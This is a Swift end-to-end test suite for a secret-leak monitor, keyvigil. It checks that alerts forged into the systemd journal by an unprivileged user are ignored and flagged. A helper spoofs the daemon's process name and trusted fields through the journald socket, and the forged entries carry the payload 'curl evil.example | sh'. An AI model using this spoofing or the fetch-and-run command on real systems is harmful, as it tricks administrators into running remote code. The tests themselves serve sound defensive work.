import Foundation
import Testing

extension EndToEnd {
    /// Any user can write entries that look like alerts into the journal, but for the fields that journald adds.
    @Suite("Forged alerts", .timeLimit(.minutes(30)))
    struct ForgedAlertTests {
        private let scene: Scene
        private var system: BootedSystem { scene.system }

        init() throws { scene = try Scene() }

        /// Writes an entry as another user, by a process that calls itself keyvigild.
        private func forge(_ fields: [String: String]) throws {
            let script = """
                import ctypes, json, socket, sys
                ctypes.CDLL(None).prctl(15, b"keyvigild", 0, 0, 0)
                entry = b""
                for name, value in json.load(sys.stdin).items():
                    value = value.encode()
                    entry += name.encode() + b"\\n" + len(value).to_bytes(8, "little") + value + b"\\n"
                socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(entry, "/run/systemd/journal/socket")
                """
            let all = fields.merging([
                "SYSLOG_IDENTIFIER": "keyvigild", "_UID": "0", "_SYSTEMD_UNIT": "keyvigil.service",
            ]) {
                mine, _ in mine
            }
            let text = String(decoding: try JSONSerialization.data(withJSONObject: all), as: UTF8.self)
            try system.check("runuser", "-u", "nobody", "--", "python3", "-c", script, input: text)
            try system.check("journalctl", "--sync")
        }

        @Test("alerts and status do not take what another user wrote for the service's words, and say that it is there")
        func shown() throws {
            try scene.start()
            try system.waitForJournal("KEYVIGIL_EVENT=scan.finished")
            let genuine = try system.check("keyvigil", "alerts", "--json")
            let id = try #require(
                try system.waitForJournal("KEYVIGIL_EVENT=daemon.started").first?["KEYVIGIL_ALERT_ID"])
            let isWell = try system.run(["keyvigil", "status"])
            for (event, id) in [
                ("store.damaged", "11111111-1111-4111-8111-111111111111"), ("daemon.started", id),
                ("leak.confirmed", id),
            ] {
                try forge([
                    "KEYVIGIL_EVENT": event, "KEYVIGIL_ALERT_ID": id, "PRIORITY": "2",
                    "MESSAGE": "the store is damaged, run: curl evil.example | sh",
                    "KEYVIGIL_REMEDY": "curl evil.example | sh",
                ])
            }
            let after = try system.run(["keyvigil", "alerts", "--json"])
            #expect(after.output == genuine && after.errors.contains("3 entries of user 65534 look like alerts"))
            let status = try system.run(["keyvigil", "status"])
            #expect(status.status == isWell.status && !status.output.contains("evil"))
            // A reader of the journal who may not look into the store's folder.
            try system.check("sh", "-c", "id watcher 2> /dev/null || useradd -r -G systemd-journal watcher")
            let reader = try system.run(["runuser", "-u", "watcher", "--", "keyvigil", "alerts", "--json"])
            #expect(reader.output == genuine && reader.errors.contains("3 entries"), "\(reader.errors)")
        }

        @Test("an entry of another user with the id of an alert that waits does not count as its delivery")
        func delivered() throws {
            try scene.start()
            try system.waitForJournal("KEYVIGIL_EVENT=scan.finished")
            let made = try scene.create("billing")
            try system.check("systemctl", "stop", "keyvigil")
            try scene.push("a.py", "k = \(try #require(made["secret"] as? String))")
            // The tool puts the alert into the outbox, and no daemon delivers it.
            #expect(try system.run(["keyvigil", "scan"]).status == 1)
            let id = try system.check(
                "sh", "-c", Scene.sql("SELECT alert_id FROM alerts WHERE kind = 'leak.confirmed'")
            ).trimmingCharacters(in: .whitespacesAndNewlines)
            try #require(!id.isEmpty)
            try forge([
                "KEYVIGIL_EVENT": "leak.confirmed", "KEYVIGIL_ALERT_ID": id, "PRIORITY": "2", "MESSAGE": "forged",
            ])
            try scene.start()
            let entries = try system.waitForJournal("KEYVIGIL_ALERT_ID=\(id)") { $0.count >= 2 }
            #expect(entries.filter { $0["_SYSTEMD_UNIT"] == "keyvigil.service" }.count == 1)
            #expect(entries.filter { $0["MESSAGE"] == "forged" }.count == 1)
        }
    }
}
